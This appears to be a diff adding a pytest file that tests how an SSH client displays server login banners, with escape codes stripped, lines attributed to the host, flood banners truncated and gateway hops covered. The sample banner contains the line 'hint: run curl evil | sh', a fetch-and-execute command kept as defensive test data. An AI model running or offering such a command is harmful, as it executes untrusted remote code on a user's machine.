@@ -1,0 +1,97 @@
+"""What a host says before a login (RFC 4252, section 5.4) is shown as ssh(1) shows it, once, and as the host's."""
+
+from getpass import getuser
+from typing import Any
+
+import asyncssh
+import pytest
+
+from notebooks_over_ssh.config.settings import parse_destination
+from notebooks_over_ssh.ssh.connection import ConnectTarget, close_all, connect
+from notebooks_over_ssh.ssh.prompting import CredentialPrompter
+from tests.kit.cli import assert_success
+from tests.kit.mitm_sshd import AsyncioThread, MitmRecord, MitmServer, mitm_server
+from tests.kit.ssh_client import Client, ScriptedPrompter
+from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key
+
+TEXT = "Authorised use only.\r\n\x1b[2Jhint: run curl evil | sh\n"
+
+
+def test_whose_it_is(client: Client) -> None:
+    """It is shown without what steers a terminal, each row with the account there, and not at the next login."""
+    banner = client.folder / "banner"
+    banner.write_text(TEXT)
+    host = client.server("host", f'Banner "{banner}"')
+    client.write_known_hosts(known_hosts_line(host.port, host.public_key))
+    place = parse_destination(f"{LOOPBACK}:{host.port}", "the host")
+    prompter = ScriptedPrompter()
+    credentials = CredentialPrompter(prompter)
+    who = f"{getuser()}@{LOOPBACK}:{host.port}"
+    for _ in range(2):
+        connect(client.settings(), ConnectTarget(place), credentials)
+        close_all()
+        assert prompter.noticed == [
+            f"{who} | Authorised use only.",
+            f"{who} | [2Jhint: run curl evil | sh",
+        ]
+    assert host.logins() == 2
+
+
+@pytest.mark.parametrize(("level", "shown"), [("QUIET", False), ("ERROR", False), ("INFO", True)])
+def test_log_level(client: Client, level: str, shown: bool) -> None:
+    """Nothing is shown below `LogLevel INFO`, as with ssh."""
+    banner = client.folder / "banner"
+    banner.write_text(TEXT)
+    host = client.server("host", f'Banner "{banner}"')
+    client.write_known_hosts(known_hosts_line(host.port, host.public_key))
+    text = f"Host site\n    HostName {LOOPBACK}\n    Port {host.port}\n    LogLevel {level}\n"
+    prompter = ScriptedPrompter()
+    assert client.connect_error("site", prompter, ssh_config=text) is None
+    assert bool(prompter.noticed) == shown
+
+
+class Talks(MitmServer):
+    """Has more to say than anybody can read."""
+
+    async def begin_auth(self, username: str) -> bool:  # type: ignore[override]
+        for number in range(200):
+            self.connection.send_auth_banner(f"{number} {'x' * 30_000}\n")
+        return True
+
+    def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
+        super().connection_made(conn)
+        self.connection: Any = conn
+
+
+def test_without_end(client: Client, loop: AsyncioThread) -> None:
+    """Of 6 MB in 200 banners a few rows are shown, and the login goes on."""
+
+    def factory(record: MitmRecord) -> Talks:
+        return Talks(record)
+
+    key = client.folder / "hostile_key"
+    make_key(key)
+    prompter = ScriptedPrompter()
+    with mitm_server(loop, key, factory=factory) as (port, _):
+        client.write_known_hosts(known_hosts_line(port, key.with_suffix(".pub").read_text().strip()))
+        assert client.connect_error(f"{LOOPBACK}:{port}", prompter) is None
+    assert 0 < len(prompter.noticed) <= 21
+    assert sum(map(len, prompter.noticed)) < 4000
+
+
+def test_both_hops(network: Network) -> None:
+    """`up --detach` shows those of the gateway and of the host once each, on standard error; its tunnel shows none again."""
+    banner = network.folder / "banner"
+    banner.write_text(TEXT)
+    network.gateway.stop()
+    network.gateway.start(f'Banner "{banner}"', "AllowTcpForwarding yes")
+    network.host.stop()
+    network.host.start(f'Banner "{banner}"', network.environment())
+    try:
+        done = assert_success(network.user.fab("up", "--detach"))
+        rows = [line.partition(" | ")[0] for line in done.stderr.splitlines() if "Authorised use" in line]
+        assert len(rows) == len(set(rows)) == 2, done.stderr
+        assert all(row.startswith(f"{getuser()}@") for row in rows)
+        assert "Authorised" not in done.stdout
+    finally:
+        assert_success(network.user.fab("stop", "--all"))
